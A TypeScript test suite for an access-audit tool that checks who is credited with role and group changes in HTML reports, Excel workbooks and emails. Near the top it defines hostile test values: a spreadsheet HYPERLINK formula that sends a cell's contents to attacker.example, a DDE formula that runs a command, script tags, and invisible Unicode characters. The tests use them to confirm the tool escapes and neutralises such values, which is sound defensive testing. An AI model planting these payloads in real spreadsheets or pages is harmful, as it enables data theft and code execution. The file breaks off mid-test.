/**
 * Who made each change, in the HTML report, the workbook and the change email: an organization
 * crawled three times over HTTP from the simulator into a real DuckDB file, each crawl syncing the
 * simulator's audit log. Between the first two crawls, changes whose attribution is known: roles
 * granted in a person's console session and through an API key (attributed), a manual group's
 * membership (not in the audit log), a SCIM group's membership (by SCIM), roles granted while
 * audit logging was off (unattributed, though the log covers the interval), and a grant made by a
 * person whose email and address are hostile. Between the second and third, a grant while the
 * admin key may not read the log (the sync is refused: a gap, unattributed with the reason). A copy
 * of the database gets a failed sync with a hostile reason through the store's own sync writer.
 * The email goes through a real SMTP server on loopback and is parsed back; the HTML is opened in
 * Chromium, on screen and for print. Nothing of ours is mocked.
 */
import { copyFileSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { pathToFileURL } from "node:url";
import ExcelJS from "exceljs";
import Handlebars from "handlebars";
import { type ParsedMail, simpleParser } from "mailparser";
import type { Browser, Page } from "playwright-core";
import { SMTPServer } from "smtp-server";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { AttributionStatus } from "../src/analysis/attribution.js";
import { renderChangeReportEmail, sendChangeReport } from "../src/deliver/email.js";
import { changeReportEmail } from "../src/deliver/report-email.js";
import { revealInvisible } from "../src/render/index.js";
import { renderHtml } from "../src/report/html.js";
import { buildReportModel, type ReportChange, type ReportModel } from "../src/report/model.js";
import { writeWorkbook } from "../src/report/xlsx.js";
import { type RunningSimulator, startSimulator } from "../src/simulator/index.js";
import { Store } from "../src/store/index.js";
import { crawlInto, NO_CREDENTIALS, roleId } from "./support/analysis-org.js";
import { hasChromium, launchChromium } from "./support/browser.js";
import { sheetRecords } from "./support/workbook-rows.js";

/** What a value looks like in the HTML: invisible characters revealed, then HTML-escaped. */
const rendered = (value: string): string => Handlebars.escapeExpression(revealInvisible(value));

/** A person with a hostile email, acting from a hostile address. */
const HOSTILE_EMAIL = `=HYPERLINK("http://attacker.example/?x="&A1,"x")<script>alert('actor')</script>\u202Eexe@evil.example`;
const HOSTILE_IP = "203.0.113.7\u200B<b>bold</b>";
/** The reason of a failed sync written into the copy. */
const HOSTILE_REASON = `=cmd|' /C calc'!A0 <script>alert('reason')</script> \u202Edaer\u202C`;
/** Alice's console session. */
const ALICE_IP = "198.51.100.7";

/** The ids of what the cases use, made before the first crawl. */
interface Made {
  manualGroup: string;
  scimGroup: string;
  adminGroup: string;
  keyGroup: string;
  hostileGroup: string;
  alice: string;
  hostileUser: string;
  joiner: string;
  scimJoiner: string;
  scimLeaver: string;
  grantee: string;
  lateGrantee: string;
  keyId: string;
  ownerRole: string;
  adminRole: string;
  usageRole: string;
  billingRole: string;
  userAdminRole: string;
}

/**
 * The two intervals: `covered` (first to second crawl: the audit log held covers it) and `gap`
 * (second to third: the third crawl's sync is refused, so nothing after the second sync is held).
 */
type Interval = "covered" | "gap";

/** One change made between two crawls, and what every report must say about who made it. */
interface Case {
  name: string;
  interval: Interval;
  /** Makes the change on the simulator. */
  make: (sim: RunningSimulator, m: Made) => void;
  /** Finds the change in the report model. */
  find: (c: ReportChange, m: Made) => boolean;
  status: AttributionStatus;
  /** The Actor column. */
  label: (m: Made) => string | RegExp;
  /** The reason shown under it (null: none, as for an attributed change). */
  reason: RegExp | null;
  /** What the changes are grouped by. */
  madeBy: (m: Made) => string | RegExp;
  elevated: boolean;
  /** Matching audit-log events. */
  events: number;
}

const at = "\\d{4}-\\d\\d-\\d\\dT\\d\\d:\\d\\d:\\d\\d\\.\\d{3}Z";
const literal = (text: string): string => text.replace(/[.*+?^${}()|[\]\\]/g, "\\$&");
/** An unattributed change in an interval the audit log covers. */
const OUT_OF_BAND =
  /^no matching event in the audit log, which covers this interval: the change was made out of band, or audit logging was off$/;
/** An unattributed change in the gap the refused sync left. */
const GAP =
  /^the audit log held does not cover \S+ to \S+ \(failed sync: the admin key may not read the audit log \(HTTP 403\)/;

/** Every change made between the crawls, in one place: add a case here to cover another. */
const CASES: Case[] = [
  {
    name: "Owner granted to a manual group in a person's session: attributed to her",
    interval: "covered",
    make: (sim, m) =>
      sim.state.asActor({ kind: "session", userId: m.alice, ipAddress: ALICE_IP }, () =>
        sim.state.assignGroupRole(m.adminGroup, m.ownerRole),
      ),
    find: (c, m) =>
      c.kind === "group_role_granted" && c.group_id === m.adminGroup && c.role_id === m.ownerRole,
    status: "attributed",
    label: (m) =>
      new RegExp(`^by alice@corp\\.example \\(${m.alice}\\) from ${literal(ALICE_IP)} at ${at}$`),
    reason: null,
    madeBy: (m) => `alice@corp.example (${m.alice})`,
    elevated: true,
    events: 1,
  },
  {
    name: "an elevated role granted to a manual group through an API key: attributed to the key",
    interval: "covered",
    make: (sim, m) =>
      sim.state.asActor({ kind: "api_key", keyId: m.keyId }, () =>
        sim.state.assignGroupRole(m.keyGroup, m.adminRole),
      ),
    find: (c, m) =>
      c.kind === "group_role_granted" && c.group_id === m.keyGroup && c.role_id === m.adminRole,
    status: "attributed",
    label: (m) => new RegExp(`^by API key ${literal(m.keyId)} of .+ at ${at}$`),
    reason: null,
    madeBy: (m) => new RegExp(`^API key ${literal(m.keyId)} of `),
    elevated: true,
    events: 1,
  },
  {
    name: "a manual group's new member: not in the audit log",
    interval: "covered",
    make: (sim, m) => sim.state.addMember(m.manualGroup, m.joiner),
    find: (c, m) =>
      c.kind === "member_added" && c.group_id === m.manualGroup && c.user_id === m.joiner,
    status: "not_logged",
    label: () => "not in the audit log",
    reason:
      /^the API logs no organization-level event when a member is added to or removed from a group$/,
    madeBy: () => "not in the audit log",
    elevated: false,
    events: 0,
  },
  {
    name: "a SCIM group's new member: by SCIM",
    interval: "covered",
    make: (sim, m) => sim.state.addMember(m.scimGroup, m.scimJoiner),
    find: (c, m) =>
      c.kind === "member_added" && c.group_id === m.scimGroup && c.user_id === m.scimJoiner,
    status: "scim",
    label: () => "by SCIM",
    reason: /the directory manages this through SCIM/,
    madeBy: () => "SCIM",
    elevated: false,
    events: 0,
  },
  {
    name: "a SCIM group's member removed: by SCIM",
    interval: "covered",
    make: (sim, m) => sim.state.removeMember(m.scimGroup, m.scimLeaver),
    find: (c, m) =>
      c.kind === "member_removed" && c.group_id === m.scimGroup && c.user_id === m.scimLeaver,
    status: "scim",
    label: () => "by SCIM",
    reason: /the directory manages this through SCIM/,
    madeBy: () => "SCIM",
    elevated: false,
    events: 0,
  },
  {
    name: "an elevated role granted to a user while audit logging was off: nobody accounts for it",
    interval: "covered",
    make: (sim, m) => {
      sim.setAuditLogMode("disabled");
      sim.state.assignUserRole(m.grantee, m.adminRole);
      sim.setAuditLogMode("enabled");
    },
    find: (c, m) =>
      c.kind === "user_role_granted" && c.user_id === m.grantee && c.role_id === m.adminRole,
    status: "unattributed",
    label: () => "unattributed",
    reason: OUT_OF_BAND,
    madeBy: () => "unattributed",
    elevated: true,
    events: 0,
  },
  {
    name: "a read-only role granted while audit logging was off: unattributed, not elevated",
    interval: "covered",
    make: (sim, m) => {
      sim.setAuditLogMode("disabled");
      sim.state.assignUserRole(m.grantee, m.usageRole);
      sim.setAuditLogMode("enabled");
    },
    find: (c, m) =>
      c.kind === "user_role_granted" && c.user_id === m.grantee && c.role_id === m.usageRole,
    status: "unattributed",
    label: () => "unattributed",
    reason: OUT_OF_BAND,
    madeBy: () => "unattributed",
    elevated: false,
    events: 0,
  },
  {
    name: "an elevated role granted by a person with a hostile email and address",
    interval: "covered",
    make: (sim, m) =>
      sim.state.asActor({ kind: "session", userId: m.hostileUser, ipAddress: HOSTILE_IP }, () =>
        sim.state.assignGroupRole(m.hostileGroup, m.billingRole),
      ),
    find: (c, m) =>
      c.kind === "group_role_granted" &&
      c.group_id === m.hostileGroup &&
      c.role_id === m.billingRole,
    status: "attributed",
    label: (m) =>
      new RegExp(
        `^${literal(`by ${HOSTILE_EMAIL} (${m.hostileUser}) from ${HOSTILE_IP} at `)}${at}$`,
      ),
    reason: null,
    madeBy: (m) => `${HOSTILE_EMAIL} (${m.hostileUser})`,
    elevated: true,
    events: 1,
  },
  {
    name: "an elevated role granted while the admin key may not read the log: a gap",
    interval: "gap",
    make: (sim, m) => sim.state.assignUserRole(m.lateGrantee, m.userAdminRole),
    find: (c, m) =>
      c.kind === "user_role_granted" &&
      c.user_id === m.lateGrantee &&
      c.role_id === m.userAdminRole,
    status: "unattributed",
    label: () => "unattributed",
    reason: GAP,
    madeBy: () => "unattributed",
    elevated: true,
    events: 0,
  },
];

const casesOf = (interval: Interval): Case[] => CASES.filter((c) => c.interval === interval);
/** The elevated changes nobody can account for in an interval, from the cases. */
const unaccounted = (interval: Interval): number =>
  casesOf(interval).filter((c) => c.elevated && c.status === "unattributed").length;

interface Org {
  sim: RunningSimulator;
  dir: string;
  dbPath: string;
  snapshots: [number, number, number];
  made: Made;
}

async function crawlOrganization(): Promise<Org> {
  const dir = mkdtempSync(join(tmpdir(), "access-audit-attribution-"));
  const dbPath = join(dir, "attribution.duckdb");
  const sim = await startSimulator({
    port: 0,
    seed: 31,
    groups: 4,
    users: 30,
    projects: 1,
    projectCustomRoles: 0,
    ...NO_CREDENTIALS,
  });
  const s = sim.state;
  const user = (name: string) => s.createUser({ name, email: `${name}@corp.example` }).id;
  const key = s.simulatorKeyActor();
  if (key?.kind !== "api_key") throw new Error("the simulator has no key of its own");
  const made: Made = {
    manualGroup: s.createGroup("Finance readers", { isScimManaged: false }).id,
    scimGroup: s.createGroup("Directory engineers", { isScimManaged: true }).id,
    adminGroup: s.createGroup("Break-glass admins", { isScimManaged: false }).id,
    keyGroup: s.createGroup("Automation admins", { isScimManaged: false }).id,
    hostileGroup: s.createGroup("Billing", { isScimManaged: false }).id,
    alice: user("alice"),
    hostileUser: s.createUser({ name: "Mallory", email: HOSTILE_EMAIL }).id,
    joiner: user("joiner"),
    scimJoiner: user("scim-joiner"),
    scimLeaver: user("scim-leaver"),
    grantee: user("grantee"),
    lateGrantee: user("late-grantee"),
    keyId: key.keyId,
    ownerRole: s.ownerRoleId,
    adminRole: roleId(sim, "Project Administrator"),
    usageRole: roleId(sim, "Usage Viewer"),
    billingRole: roleId(sim, "Billing Manager"),
    userAdminRole: roleId(sim, "User Administrator"),
  };
  s.addMember(made.scimGroup, made.scimLeaver);
  s.addMember(made.adminGroup, user("admin-member"));
  const first = await crawlInto(sim, dbPath);
  for (const c of casesOf("covered")) c.make(sim, made);
  const second = await crawlInto(sim, dbPath);
  for (const c of casesOf("gap")) c.make(sim, made);
  // The third crawl's sync is refused (HTTP 403): the rest of the interval is a gap.
  sim.setAuditLogMode("forbidden");
  const third = await crawlInto(sim, dbPath);
  sim.setAuditLogMode("enabled");
  return { sim, dir, dbPath, snapshots: [first, second, third], made };
}

async function modelOf(path: string, snapshotId: number): Promise<ReportModel> {
  const store = await Store.open(path, { readOnly: true });
  try {
    return await buildReportModel(store, {
      snapshotId,
      toolVersion: "9.9.9-test",
      templateVersion: "t-test",
    });
  } finally {
    await store.close();
  }
}

async function workbookOf(
  dbPath: string,
  snapshotId: number,
  file: string,
): Promise<ExcelJS.Workbook> {
  const store = await Store.open(dbPath, { readOnly: true });
  try {
    const model = await buildReportModel(store, {
      snapshotId,
      toolVersion: "9.9.9-test",
      templateVersion: "t-test",
    });
    await writeWorkbook(store, model, file);
  } finally {
    await store.close();
  }
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.readFile(file);
  return workbook;
}

/** Data rows as objects keyed by each column's row property (support/workbook-rows.ts). */
function rowsOf(workbook: ExcelJS.Workbook, name: string): Record<string, ExcelJS.CellValue>[] {
  const sheet = workbook.getWorksheet(name);
  if (!sheet) throw new Error(`no sheet ${name}`);
  return sheetRecords(sheet);
}

/** The HTML between an element's opening tag (found by id) and the next `</tag>`. */
function elementHtml(html: string, tag: string, id: string): string {
  const open = html.indexOf(` id="${id}"`);
  if (open < 0) throw new Error(`no element #${id}`);
  const from = html.lastIndexOf(`<${tag}`, open);
  const end = html.indexOf(`</${tag}>`, open);
  return html.slice(from, end + tag.length + 3);
}

/** Records a failed sync with `reason` in the database at `path`, through the store's writer. */
async function writeFailedSync(path: string, reason: string, snapshotId: number): Promise<void> {
  const store = await Store.open(path);
  try {
    await store.auditSync(
      {
        baseUrl: "http://127.0.0.1:1/v1",
        keyRedacted: "sk-admin...test",
        toolVersion: "test",
        snapshotId,
        startedAtMs: Date.now(),
      },
      (writer) => writer.fail(reason, 1),
    );
  } finally {
    await store.close();
  }
}

/** A plain SMTP server on loopback (no TLS, no AUTH), keeping what it receives. */
async function startSmtp(): Promise<{
  port: number;
  received: ParsedMail[];
  stop(): Promise<void>;
}> {
  const received: ParsedMail[] = [];
  const server = new SMTPServer({
    secure: false,
    authOptional: true,
    disabledCommands: ["STARTTLS", "AUTH"],
    logger: false,
    onData(stream, _session, callback) {
      simpleParser(stream).then(
        (mail) => {
          received.push(mail);
          callback(null);
        },
        (err: Error) => callback(err),
      );
    },
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  const address = server.server.address();
  return {
    port: typeof address === "object" && address ? address.port : 0,
    received,
    stop: () => new Promise<void>((resolve) => server.close(() => resolve())),
  };
}

const STATUS_NAMES: Record<AttributionStatus, string> = {
  unattributed: "Unattributed",
  attributed: "Attributed",
  scim: "SCIM",
  not_logged: "Not in the audit log",
};

describe("who made each change, in the reports and the change email", () => {
  let org: Org;
  /** The second snapshot's report: changes since the first, in an interval the log covers. */
  let covered: ReportModel;
  let coveredHtml: string;
  let coveredBook: ExcelJS.Workbook;
  /** The third snapshot's report: changes since the second, in the refused sync's gap. */
  let gap: ReportModel;
  let gapHtml: string;
  /** The third snapshot's report from the copy with a hostile failed sync. */
  let hostilePath: string;
  let hostile: ReportModel;
  let hostileHtml: string;
  let hostileBook: ExcelJS.Workbook;
  let browser: Browser | undefined;

  const caseNamed = (prefix: string): Case => {
    const found = CASES.find((c) => c.name.startsWith(prefix));
    if (!found) throw new Error(`no case ${prefix}`);
    return found;
  };
  const change = (m: ReportModel, c: Case): { change: ReportChange; index: number } => {
    const index = m.changes.findIndex((x) => c.find(x, org.made));
    const found = m.changes[index];
    if (found === undefined) throw new Error(`no change for case: ${c.name}`);
    return { change: found, index };
  };
  const modelOfInterval = (interval: Interval): ReportModel =>
    interval === "covered" ? covered : gap;

  beforeAll(async () => {
    org = await crawlOrganization();
    const [, second, third] = org.snapshots;
    covered = await modelOf(org.dbPath, second);
    coveredHtml = renderHtml(covered);
    coveredBook = await workbookOf(org.dbPath, second, join(org.dir, "covered.xlsx"));
    gap = await modelOf(org.dbPath, third);
    gapHtml = renderHtml(gap);
    hostilePath = join(org.dir, "hostile.duckdb");
    copyFileSync(org.dbPath, hostilePath);
    await writeFailedSync(hostilePath, HOSTILE_REASON, third);
    hostile = await modelOf(hostilePath, third);
    hostileHtml = renderHtml(hostile);
    hostileBook = await workbookOf(hostilePath, third, join(org.dir, "hostile.xlsx"));
    // REPORT_HTML_OUT keeps the reports somewhere to look at.
    const out = process.env.REPORT_HTML_OUT;
    if (out !== undefined) {
      writeFileSync(join(out, "attribution-covered.html"), coveredHtml);
      writeFileSync(join(out, "attribution-gap.html"), gapHtml);
      writeFileSync(join(out, "attribution-hostile.html"), hostileHtml);
    }
    if (hasChromium) browser = await launchChromium();
  }, 240_000);
  afterAll(async () => {
    await browser?.close();
    await org?.sim.stop();
    if (org) rmSync(org.dir, { recursive: true, force: true });
  });

  it("every change carries the attribution its case expects", () => {
    for (const c of CASES) {
      const m = modelOfInterval(c.interval);
      const { change: found } = change(m, c);
      const a = found.attribution;
      expect(a.status, c.name).toBe(c.status);
      expect(a.label, c.name).toMatch(c.label(org.made));
      if (c.reason === null) expect(a.reason, c.name).toBeNull();
      else expect(a.reason, c.name).toMatch(c.reason);
      expect(a.made_by, c.name).toMatch(c.madeBy(org.made));
      expect(found.elevated, c.name).toBe(c.elevated);
      expect(a.event_ids, c.name).toHaveLength(c.events);
      if (c.events === 0) expect(a.event_time, c.name).toBeNull();
      else expect(a.label, c.name).toContain(` at ${a.event_time}`);
    }
    for (const m of [covered, gap]) {
      // Every change has an attribution; the totals and the by-actor counts add up.
      const t = m.attribution_totals;
      expect(t.attributed + t.scim + t.not_logged + t.unattributed).toBe(m.changes.length);
      expect(m.changes_by_actor.reduce((n, a) => n + a.changes, 0)).toBe(m.changes.length);
    }
    expect(covered.attribution_totals.unattributed_elevated).toBe(unaccounted("covered"));
    expect(gap.attribution_totals.unattributed_elevated).toBe(unaccounted("gap"));
  });

  it("audit log: the first interval is covered; the refused sync leaves a gap that says why", () => {
    expect(covered.audit_log).toMatchObject({ covered: true, gaps: [], failed_syncs: [] });
    expect(covered.audit_log_note).toMatch(
      /^The audit log held covers the whole interval of the changes, from \S+ to \S+: /,
    );
    const g = gap.audit_log;
    expect(g?.covered).toBe(false);
    expect(g?.gaps).toHaveLength(1);
    expect(g?.failed_syncs.map((s) => s.reason)).toEqual([
      expect.stringMatching(/^the admin key may not read the audit log \(HTTP 403\)/),
    ]);
    expect(gap.audit_log_note).toMatch(
      /^The audit log held does not cover \S+ to \S+ of the interval of the changes \(from /,
    );
    expect(gap.audit_log_note).toContain(`Sync ${g?.failed_syncs[0]?.sync_id} (started `);
    // Which audit log the attributions were read from: the head of its chain, the newest sync
    // in the database whichever snapshot is reported on.
    for (const m of [covered, gap]) {
      expect(m.audit_log_head).toEqual({
        sync_id: 3,
        seal: expect.stringMatching(/^[0-9a-f]{64}$/),
      });
    }
    expect(hostile.audit_log_head?.sync_id).toBe(4);
    for (const [m, text] of [
      [covered, coveredHtml],
      [gap, gapHtml],
    ] as const) {
      const head = `Sync ${m.audit_log_head?.sync_id}, seal ${m.audit_log_head?.seal}`;
      expect(text).toContain(`<code class="seal">${head}</code>`);
      expect(text).toContain(`Read from the audit log held up to s${head.slice(1)}`);
    }
    const seals = rowsOf(hostileBook, "Summary").find((r) => r.item === "Audit log head");
    expect(seals).toMatchObject({ section: "Seals", value: hostile.audit_log_head?.seal });
  });

  it("groups changes by actor: unattributed first, then people and keys, SCIM, the unlogged", () => {
    const order: AttributionStatus[] = ["unattributed", "attributed", "scim", "not_logged"];
    const statuses = covered.changes_by_actor.map((a) => a.status);
    expect(statuses).toEqual([...statuses].sort((a, b) => order.indexOf(a) - order.indexOf(b)));
    expect(new Set(statuses)).toEqual(new Set(order));
    // The people and keys, by name; each with its changes and its elevated ones.
    const actors = covered.changes_by_actor.filter((a) => a.status === "attributed");
    const names = actors.map((a) => a.made_by);
    expect(names).toEqual([...names].sort((a, b) => (a < b ? -1 : a > b ? 1 : 0)));
    for (const a of covered.changes_by_actor) {
      const mine = covered.changes.filter(
        (c) => c.attribution.status === a.status && c.attribution.made_by === a.made_by,
      );
      expect(a.changes, a.made_by).toBe(mine.length);
      expect(a.elevated, a.made_by).toBe(mine.filter((c) => c.elevated).length);
    }
    const alice = actors.find((a) => a.made_by === `alice@corp.example (${org.made.alice})`);
    // The grant and the Owner it gave the group's member: one event explains both.
    expect(alice).toMatchObject({ changes: 2, elevated: 1 });
  });

  it("HTML: the summary opens with the elevated changes nobody can account for", () => {
    for (const [interval, m, html] of [
      ["covered", covered, coveredHtml],
      ["gap", gap, gapHtml],
    ] as const) {
      const summary = elementHtml(html, "section", "summary");
      const box = summary.indexOf('id="unaccounted"');
      expect(box, interval).toBeGreaterThan(0);
      expect(box, interval).toBeLessThan(summary.indexOf('class="lede"'));
      expect(summary).toContain(
        `Elevated changes nobody can account for (${unaccounted(interval)})`,
      );
      expect(summary).toContain('class="unaccounted has-unaccounted"');
      for (const c of casesOf(interval)) {
        const { index } = change(m, c);
        const linked = summary.includes(`href="#change-${index + 1}"`);
        expect(linked, c.name).toBe(c.elevated && c.status === "unattributed");
      }
      expect(summary).toContain(
        `${m.attribution_totals.unattributed} unattributed, ${unaccounted(interval)} of them elevated.`,
      );
    }
  });

  it("HTML: the change section states the coverage, who made the changes, and each actor", () => {
    const coverage = (html: string) =>
      elementHtml(elementHtml(html, "section", "changes"), "div", "audit-log-coverage");
    expect(coverage(coveredHtml)).toContain("is-covered");
    expect(coverage(coveredHtml)).toContain(rendered(covered.audit_log_note ?? "?"));
    const gapBox = coverage(gapHtml);
    expect(gapBox).toContain("has-gaps");
    for (const s of gap.audit_log?.failed_syncs ?? []) {
      expect(gapBox).toContain(rendered(`sync ${s.sync_id} (started ${s.started_at}) failed: `));
      expect(gapBox).toContain(rendered(s.reason ?? "?"));
    }

    const section = elementHtml(coveredHtml, "section", "changes");
    const byActor = elementHtml(section, "table", "changes-by-actor");
    const rows = [...byActor.matchAll(/<tr class="attr-(\w+)">(.*?)<\/tr>/g)].map((m) => [
      m[1],
      (m[2] ?? "").replace(/<[^>]+>/g, "|").replace(/\|+/g, "|"),
    ]);
    const who = (a: ReportModel["changes_by_actor"][number]) =>
      a.status === "attributed"
        ? rendered(a.made_by)
        : {
            unattributed: "Unattributed: nobody can be named",
            scim: "SCIM",
            not_logged: "Not in the audit log",
          }[a.status];
    expect(rows).toEqual(
      covered.changes_by_actor.map((a) => [
        a.status,
        `|${who(a)}|${STATUS_NAMES[a.status]}|${a.changes}|${a.elevated}|`,
      ]),
    );
    // The table lists every change once, grouped by actor in the by-actor order.
    const table = elementHtml(section, "table", "changes-table");
    const order = [...table.matchAll(/<td class="actor attr-(\w+)" data-sort="(\d+)">/g)].map((m) =>
      Number(m[2]),
    );
    expect(order).toHaveLength(covered.changes.length);
    expect(order).toEqual([...order].sort((a, b) => a - b));
    // Each case's row: the label, its reason as text (not a tooltip), events, elevated marked.
    for (const c of CASES) {
      const m = modelOfInterval(c.interval);
      const html = c.interval === "covered" ? coveredHtml : gapHtml;
      const { change: found, index } = change(m, c);
      const row = elementHtml(html, "tr", `change-${index + 1}`);
      const a = found.attribution;
      expect(row, c.name).toContain(`<span class="actor-label">${rendered(a.label)}</span>`);
      expect(row.includes('<span class="actor-reason">'), c.name).toBe(a.reason !== null);
      if (a.reason !== null) {
        expect(row, c.name).toContain(`<span class="actor-reason">${rendered(a.reason)}</span>`);
      }
      expect(
        row.includes(`<span class="actor-events">Event ${a.event_ids[0]}</span>`),
        c.name,
      ).toBe(c.events === 1);
      expect(row.includes('<span class="badge elevated">Elevated</span>'), c.name).toBe(c.elevated);
      expect(row, c.name).not.toMatch(/title="/);
    }
  });

  it("workbook: Actor, Attribution, Event time, Event ids and Reason on every change", () => {
    const rows = rowsOf(coveredBook, "Changes");
    expect(rows).toHaveLength(covered.changes.length);
    for (const c of casesOf("covered")) {
      const { change: found, index } = change(covered, c);
      const a = found.attribution;
      expect(rows[index], c.name).toMatchObject({
        kind: found.kind,
        actor: a.label.startsWith("=") ? `'${a.label}` : revealInvisible(a.label),
        attribution: c.status,
        event_time: a.event_time === null ? null : new Date(a.event_time),
        event_ids: a.event_ids.length === 0 ? null : a.event_ids.join(", "),
        reason: a.reason,
        elevated: c.elevated,
      });
    }
    expect(rowsOf(coveredBook, "Changes by actor")).toEqual(
      covered.changes_by_actor.map((a) => ({
        made_by: a.made_by.startsWith("=") ? `'${revealInvisible(a.made_by)}` : a.made_by,
        attribution: a.status,
        changes: a.changes,
        elevated_changes: a.elevated,
      })),
    );
    const summary = rowsOf(coveredBook, "Summary").filter((r) => r.section === "Attribution");
    const item = (name: string) => summary.find((r) => r.item === name);
    expect(item("Audit log")).toMatchObject({
      value: "covers the interval",
      detail: covered.audit_log_note,
    });
    expect(item("Unattributed elevated changes")?.value).toBe(unaccounted("covered"));
    expect(item("Attributed changes")?.value).toBe(covered.attribution_totals.attributed);
    expect(item("Interval from")?.value).toEqual(new Date(covered.audit_log?.window.from ?? "?"));
  });

  it("email over SMTP: the actor of every listed change, the unattributed count, the coverage", async () => {
    const smtp = await startSmtp();
    try {
      const result = await sendChangeReport(changeReportEmail(covered, []), {
        smtp: { host: "127.0.0.1", port: smtp.port, security: "none", timeoutMs: 5000 },
        from: "audit@corp.example",
        to: ["security@corp.example"],
        policy: "always",
        minSeverity: "high",
        maxChangesInBody: 1000,
      });
      expect(result.status).toBe("sent");
      const mail = smtp.received[0];
      if (!mail) throw new Error("nothing received");
      const text = mail.text ?? "";
      const body = typeof mail.html === "string" ? mail.html : "";
      const t = covered.attribution_totals;
      const n = unaccounted("covered");
      const line = `${t.unattributed} changes are unattributed, ${n} of them elevated`;
      expect(text).toContain(`Who made them: ${line}.`);
      expect(body).toContain(`Who made them: ${line}.`);
      expect(text).toContain(
        `!! ${n} elevated change nobody can account for: no audit-log event names who made it.`,
      );
      expect(body).toContain(`${n} elevated change nobody can account for`);
      expect(text).toContain(covered.audit_log_note ?? "?");
      expect(body).toContain(rendered(covered.audit_log_note ?? "?"));
      // Every change is listed with its actor; the unaccounted elevated ones first.
      const listed = [...text.matchAll(/^- \[(\w+)\]( \[elevated\])? .*\n {4}actor: (.*)$/gm)];
      expect(listed).toHaveLength(covered.changes.length);
      expect(listed.slice(0, n).map((m) => [m[2], m[3]])).toEqual(
        Array.from({ length: n }, () => [" [elevated]", "unattributed"]),
      );
      for (const c of casesOf("covered")) {
        const a = change(covered, c).change.attribution;
        expect(text, c.name).toContain(`    actor: ${revealInvisible(a.label)}\n`);
        expect(body, c.name).toContain(
          `Actor: ${rendered(a.label)}${a.reason === null ? "</span>" : ` &middot; ${rendered(a.reason)}`}`,
        );
      }
    } finally {
      await smtp.stop();
    }
  });

  it("email: a gap in the audit log is said with its reason", async () => {
    const out = await renderChangeReportEmail(changeReportEmail(gap, []), {
      minSeverity: "high",
    });
    expect(out.text).toContain(`${gap.audit_log_note}\n`);
    expect(out.text).toContain("the admin key may not read the audit log (HTTP 403)");
    expect(out.text).toContain(`!! ${unaccounted("gap")} elevated change nobody can account for`);
  });

  it("hostile actor: escaped and revealed in HTML, neutralised in the workbook, literal in email", async () => {
    const c = caseNamed("an elevated role granted by a person with a hostile");
    const { change: found, index } = change(covered, c);
    const a = found.attribution;
    const row = elementHtml(coveredHtml, "tr", `change-${index + 1}`);
    expect(row).toContain(`<span class="actor-label">${rendered(a.label)}</span>`);
    expect(row).toContain("[U+202E]exe@evil.example");
    expect(row).toContain("203.0.113.7[U+200B]&lt;b&gt;bold&lt;/b&gt;");
    for (const raw of ["<script>alert('actor')", "<b>bold</b>", "\u202E", "\u200B"]) {
      expect(coveredHtml).not.toContain(raw);
    }
    expect(coveredHtml.match(/<script\b/g)).toHaveLength(2);

    // made_by starts with "=": a leading ' keeps it text; the label starts with "by".
    const cell = `'${revealInvisible(a.made_by)}`;
    expect(rowsOf(coveredBook, "Changes")[index]).toMatchObject({
      actor: revealInvisible(a.label),
      made_by: cell,
    });
    expect(rowsOf(coveredBook, "Changes by actor").map((r) => r.made_by)).toContain(cell);

    const out = await renderChangeReportEmail(changeReportEmail(covered, []), {
      minSeverity: "high",
      maxChangesInBody: 1000,
    });
    expect(out.text).toContain(`    actor: ${revealInvisible(a.label)}\n`);
    expect(out.html).toContain(`Actor: ${rendered(a.label)}`);
    for (const body of [out.html, out.text]) {
      expect(body).not.toContain("\u202E");
      expect(body).not.toContain("\u200B");
    }
    for (const raw of ["<script>alert(", "<b>bold</b>"]) expect(out.html).not.toContain(raw);
  });

  it("hostile failure reason: escaped and revealed in HTML, neutralised in the workbook", () => {
    const c = caseNamed("an elevated role granted while the admin key may not read");
    const { change: found, index } = change(hostile, c);
    // The latest failed sync's reason is the one each unattributed change in the gap gives.
    expect(found.attribution.reason).toContain(`(failed sync: ${HOSTILE_REASON})`);
    const row = elementHtml(hostileHtml, "tr", `change-${index + 1}`);
    expect(row).toContain(rendered(HOSTILE_REASON));
    expect(elementHtml(hostileHtml, "div", "audit-log-coverage")).toContain(
      rendered(HOSTILE_REASON),
    );
    expect(hostileHtml).toContain("[U+202E]daer[U+202C]");
    for (const raw of ["<script>alert('reason')", "\u202E"]) {
      expect(hostileHtml).not.toContain(raw);
    }
    const failed = rowsOf(hostileBook, "Summary").find((r) => r.item === "Failed sync 4");
    expect(failed?.detail).toBe(`'${revealInvisible(HOSTILE_REASON)}`);
    // No formula anywhere in the sheets that carry attribution.
    for (const book of [coveredBook, hostileBook]) {
      for (const name of ["Changes", "Changes by actor", "Summary"]) {
        book.getWorksheet(name)?.eachRow((r) => {
          r.eachCell((cell) => {
            expect(cell.formula, name).toBeUndefined();
          });
        });
      }
    }
  });

  it("is deterministic: the same database gives the same HTML, workbook and email", async () => {
    const [, second, third] = org.snapshots;
    expect(renderHtml(await modelOf(org.dbPath, second))).toBe(coveredHtml);
    const one = join(org.dir, "one.xlsx");
    const two = join(org.dir, "two.xlsx");
    await workbookOf(hostilePath, third, one);
    await workbookOf(hostilePath, third, two);
    expect(readFileSync(one).equals(readFileSync(two))).toBe(true);
    const email = (m: ReportModel) =>
      renderChangeReportEmail(changeReportEmail(m, []), { minSeverity: "high" });
    expect(await email(await modelOf(org.dbPath, second))).toEqual(await email(covered));
  });

  const inBrowser = it.skipIf(!hasChromium);

  async function open(path: string): Promise<{ page: Page; problems: string[] }> {
    if (!browser) throw new Error("no browser");
    const page = await browser.newPage({ viewport: { width: 1280, height: 900 } });
    const problems: string[] = [];
    page.on("dialog", (dialog) => {
      problems.push(`dialog: ${dialog.message()}`);
      void dialog.dismiss();
    });
    page.on("pageerror", (error) => problems.push(`pageerror: ${error.message}`));
    page.on("console", (message) => {
      if (message.type() === "error") problems.push(`console: ${message.text()}`);
    });
    await page.goto(pathToFileURL(path).href, { waitUntil: "load" });
    return { page, problems };
  }

  inBrowser("Chromium: the actor and its reason read as text, on screen and in print", async () => {
    const path = join(org.dir, "covered.html");
    writeFileSync(path, coveredHtml);
    const { page, problems } = await open(path);
    const hostileCase = caseNamed("an elevated role granted by a person with a hostile");
    const { change: found, index } = change(covered, hostileCase);
    await expect(
